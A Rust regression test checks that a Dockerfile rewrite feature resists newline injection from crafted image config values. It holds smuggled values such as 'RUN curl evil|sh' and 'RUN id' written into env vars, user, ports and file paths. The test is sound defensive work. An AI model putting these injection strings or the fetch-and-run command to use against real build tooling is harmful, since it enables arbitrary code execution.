//! Dockerfile injection through `--rewrite` (issue 17, class 8): Env, WorkingDir, User,
//! ExposedPorts and paths come from the image config; a newline in any of them must not add
//! an instruction. The Dockerfile is parsed back: its instructions are exactly the expected
//! ones, the values it keeps read back unchanged, and what it left out is noted.

use crate::support::rewrite::{Elf, rewrite};
use microscope::demo::builder::{ImageBuilder, LayerBuilder};
use microscope::image::RunConfig;

fn instructions(dockerfile: &str) -> Vec<String> {
    crate::harness::dockerfile_instructions(dockerfile)
}

fn unquote(v: &str) -> String {
    crate::harness::dockerfile_unquote(v).unwrap_or_else(|| panic!("does not read back: {v}"))
}

fn evil_image() -> ImageBuilder {
    let program = "app/ser ver\nRUN curl evil|sh";
    let layer = LayerBuilder::new("app").file_with(program, &Elf::program().build(), 0o755, 0, 0);
    let mut img = ImageBuilder::new("test/evil:latest").layer(layer);
    img.run = RunConfig {
        entrypoint: vec![format!("/{program}"), "--flag\nRUN id".into()],
        env: vec![
            "PATH=/usr/bin".into(),
            r#"GOOD=a "q" $HOME \ x`y`"#.into(),
            "EVIL=x\nRUN curl evil|sh".into(),
            "BAD KEY=1".into(),
            "X\nRUN y=1".into(),
        ],
        user: "root\nRUN id".into(),
        working_dir: "/srv/my dir $x".into(),
        exposed_ports: vec!["80/tcp".into(), "81/tcp\nRUN id".into()],
        ..Default::default()
    };
    img
}

#[test]
fn a_crafted_config_adds_no_instruction_to_the_rewrite() {
    let (_, r) = rewrite(&evil_image());
    // What `--rewrite` prints: the Dockerfile and the prediction as comments, which quote
    // the image too.
    let ins = instructions(&microscope::report::rewrite::text(&r));
    let words: Vec<&str> = ins
        .iter()
        .map(|l| l.split_whitespace().next().unwrap())
        .collect();
    assert_eq!(
        words,
        [
            "ARG",
            "FROM",
            "FROM",
            "COPY",
            "ENV",
            "ENV",
            "WORKDIR",
            "EXPOSE",
            "ENTRYPOINT"
        ],
        "{}",
        r.dockerfile
    );
    let value = |prefix: &str| {
        ins.iter()
            .find_map(|l| l.strip_prefix(prefix))
            .unwrap_or_else(|| panic!("no {prefix} in {}", r.dockerfile))
    };
    assert_eq!(unquote(value("ENV PATH=")), "/usr/bin");
    assert_eq!(unquote(value("ENV GOOD=")), r#"a "q" $HOME \ x`y`"#);
    assert_eq!(unquote(value("WORKDIR ")), "/srv/my dir $x");
    // Exec forms are JSON: they read back exactly, newline and all.
    let entry: Vec<String> = serde_json::from_str(value("ENTRYPOINT ")).unwrap();
    assert_eq!(entry, ["/app/ser ver\nRUN curl evil|sh", "--flag\nRUN id"]);
    let copy: Vec<String> = serde_json::from_str(value("COPY --from=source ")).unwrap();
    assert_eq!(copy[0], "/app/ser ver\nRUN curl evil|sh");
    for dropped in [
        "ENV \"EVIL=",
        "ENV \"BAD KEY",
        "ENV \"X\\nRUN",
        "USER \"root",
        "EXPOSE \"81/tcp",
    ] {
        assert!(
            r.assumptions.iter().any(|a| a.starts_with(dropped)),
            "no note for {dropped}: {:?}",
            r.assumptions
        );
    }
}
